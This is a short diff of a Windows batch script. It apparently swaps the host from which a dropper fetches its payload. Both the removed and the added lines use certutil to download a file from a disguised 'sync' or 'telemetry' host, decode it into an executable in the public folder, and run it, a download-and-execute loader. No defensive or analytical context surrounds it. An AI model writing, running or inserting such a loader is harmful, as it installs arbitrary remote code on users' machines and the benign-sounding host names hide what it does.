@@ -1,5 +1,5 @@
-REM bootstrap 8452 v3
+REM run 7829 v3
 @echo off
-certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt
+certutil -urlcache -f http://api.telemetry-hub.example/p.txt %PUBLIC%\p.txt
 certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
 %PUBLIC%\p.exe
